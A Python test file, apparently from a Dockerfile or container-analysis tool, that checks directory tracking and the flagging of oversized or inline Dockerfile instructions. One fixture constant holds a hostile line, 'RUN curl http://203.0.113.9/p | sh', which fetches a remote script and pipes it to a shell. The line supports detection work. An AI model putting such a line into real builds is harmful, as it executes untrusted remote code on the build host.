"""What is remembered of the files of one text is bounded, and so is what is read of them."""

from __future__ import annotations

from t1612core.container.dockerfile.reader import LIMIT
from t1612core.facts.instructions import instructions
from t1612core.shell.files import Files
from t1612core.shell.outputs import MOST, Flow
from t1612core.shell.words import Word

FETCHED = "RUN curl http://203.0.113.9/p | sh"


def test_so_many_new_directories_are_known_and_no_more() -> None:
    files = Files()
    for number in range(MOST + 1):
        files.make(f"d{number}")
    for number in (MOST - 1, MOST):
        tree = Flow(texts=(Word("a", (0, 1)),))
        files.put(f"d{number}", tree, is_added=False, is_tree=True, is_here=True)

    assert [held.is_among_others for held in files] == [False, True]


def test_texts_are_read_as_far_as_a_dockerfile_is() -> None:
    long, last = Word("#" * (LIMIT + 1), (0, 1)), Word(FETCHED, (2, 3))

    assert [seen[0] for seen in instructions([last])] == ["inline_instructions"]
    told = list(instructions([long, last]))
    assert told == [("inline_instructions", "dockerfile.oversized: ", (0, 3))]
